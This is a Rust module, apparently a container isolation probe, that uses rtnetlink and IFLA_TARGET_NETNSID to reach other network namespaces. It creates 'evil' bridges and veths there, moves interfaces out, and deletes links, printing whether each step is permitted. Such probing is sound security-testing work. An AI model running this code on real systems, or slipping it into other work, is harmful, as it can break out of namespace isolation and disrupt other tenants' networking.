//! Reaching for other network namespaces through rtnetlink.
//!
//! The other end of a veth makes its namespace addressable by a small number, and
//! `IFLA_TARGET_NETNSID` then acts there for whoever holds CAP_NET_ADMIN over that namespace. With
//! CAP_NET_ADMIN of the host's user namespace all of this works.

use anyhow::Context as _;
use netlink_packet_core::{
    NLM_F_ACK, NLM_F_CREATE, NLM_F_DUMP, NLM_F_EXCL, NLM_F_REQUEST, NetlinkHeader, NetlinkMessage,
    NetlinkPayload,
};
use netlink_packet_route::RouteNetlinkMessage as Message;
use netlink_packet_route::link::{
    InfoData, InfoKind, InfoVeth, LinkAttribute, LinkInfo, LinkMessage,
};
use netlink_packet_route::nsid::{NsidAttribute, NsidMessage};
use netlink_sys::{Socket, SocketAddr, protocols::NETLINK_ROUTE};

/// Namespace numbers to try: they count from 0.
const NUMBERS: std::ops::Range<i32> = 0..8;
const CREATE: u16 = NLM_F_CREATE | NLM_F_EXCL;

/// Prints one line for each attempt: `permitted` or the error.
pub(crate) fn reach(interface: &str) -> anyhow::Result<()> {
    let number = 77;
    for (name, attribute) in [
        ("init's pid", NsidAttribute::Pid(1)),
        (
            "parent's pid",
            NsidAttribute::Pid(std::os::unix::process::parent_id()),
        ),
    ] {
        let mut message = NsidMessage::default();
        message.attributes = vec![NsidAttribute::Id(number), attribute];
        tell(
            &format!("number a namespace by {name}"),
            Message::NewNsId(message),
            CREATE,
        )?;
    }
    for number in NUMBERS {
        let there = LinkAttribute::IfNetnsId(number);
        let get = link(vec![there.clone()]);
        tell(
            &format!("list links in {number}"),
            Message::GetLink(get),
            NLM_F_DUMP,
        )?;
        let name = format!("evil{number}");
        let new = link(vec![
            there.clone(),
            LinkAttribute::IfName(name.clone()),
            kind(InfoKind::Bridge, None),
        ]);
        tell(
            &format!("make a link in {number}"),
            Message::NewLink(new),
            CREATE,
        )?;
        tell(
            &format!("make a veth into {number}"),
            Message::NewLink(veth(number)),
            CREATE,
        )?;
        for victim in [interface, "up0"] {
            let here = LinkAttribute::NetNsPid(std::process::id());
            let pull = link(vec![
                there.clone(),
                LinkAttribute::IfName(victim.to_owned()),
                here,
            ]);
            tell(
                &format!("take {victim} out of {number}"),
                Message::SetLink(pull),
                0,
            )?;
        }
        // Not docker0: under plain runc that would end everyone's network.
        for victim in [name.as_str(), "up0", "in0"] {
            let delete = link(vec![
                there.clone(),
                LinkAttribute::IfName(victim.to_owned()),
            ]);
            tell(
                &format!("delete {victim} in {number}"),
                Message::DelLink(delete),
                0,
            )?;
        }
    }
    Ok(())
}

/// A veth that is born in namespace `number`, with its other end here.
fn veth(number: i32) -> LinkMessage {
    let peer = link(vec![
        LinkAttribute::IfName(format!("evilhere{number}")),
        LinkAttribute::NetNsPid(std::process::id()),
    ]);
    let data = InfoData::Veth(InfoVeth::Peer(peer));
    link(vec![
        LinkAttribute::IfNetnsId(number),
        LinkAttribute::IfName(format!("evilveth{number}")),
        kind(InfoKind::Veth, Some(data)),
    ])
}

pub(crate) fn link(attributes: Vec<LinkAttribute>) -> LinkMessage {
    let mut message = LinkMessage::default();
    message.attributes = attributes;
    message
}

fn kind(kind: InfoKind, data: Option<InfoData>) -> LinkAttribute {
    let mut info = vec![LinkInfo::Kind(kind)];
    info.extend(data.map(LinkInfo::Data));
    LinkAttribute::LinkInfo(info)
}

pub(crate) fn tell(what: &str, message: Message, flags: u16) -> anyhow::Result<()> {
    match ask(message, flags)? {
        None => println!("{what}: permitted"),
        Some(error) => println!("{what}: {error}"),
    }
    Ok(())
}

/// Sends one request; gives the kernel's refusal, if it refused.
fn ask(message: Message, flags: u16) -> anyhow::Result<Option<std::io::Error>> {
    let mut header = NetlinkHeader::default();
    header.flags = NLM_F_REQUEST | NLM_F_ACK | flags;
    let mut packet = NetlinkMessage::new(header, NetlinkPayload::from(message));
    packet.finalize();
    let mut bytes = vec![0; packet.buffer_len()];
    packet.serialize(&mut bytes);
    let mut socket = Socket::new(NETLINK_ROUTE)?;
    socket.bind_auto()?;
    socket.connect(&SocketAddr::new(0, 0))?;
    socket.send(&bytes, 0)?;
    let (answer, _) = socket.recv_from_full()?;
    let answer = NetlinkMessage::<Message>::deserialize(&answer).context("the kernel's answer")?;
    Ok(match answer.payload {
        NetlinkPayload::Error(error) if error.code.is_some() => Some(error.to_io()),
        // A list that fails ends with the error where the count would be.
        NetlinkPayload::Done(done) if done.code < 0 => {
            Some(std::io::Error::from_raw_os_error(-done.code))
        }
        _ => None,
    })
}
